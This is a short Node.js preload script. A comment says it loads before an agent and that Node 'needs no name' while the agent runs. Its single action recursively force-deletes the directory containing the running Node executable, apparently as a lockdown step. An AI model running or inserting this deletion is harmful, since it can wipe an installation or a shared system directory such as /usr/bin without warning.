const { rmSync } = require('node:fs');
const { dirname } = require('node:path');

// loaded before the agent: while it runs, its Node.js needs no name
rmSync(dirname(process.execPath), { recursive: true, force: true });
